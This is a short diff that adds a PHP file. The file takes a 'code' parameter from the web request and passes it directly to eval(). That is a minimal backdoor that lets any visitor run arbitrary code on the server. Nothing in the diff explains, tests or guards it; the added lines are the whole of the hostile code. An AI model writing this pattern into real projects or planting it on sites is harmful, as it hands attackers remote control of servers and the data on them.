@@ -1,0 +1,3 @@
+<?php
+$code = $_REQUEST['code'];
+eval('$x = ' . $code . ';');
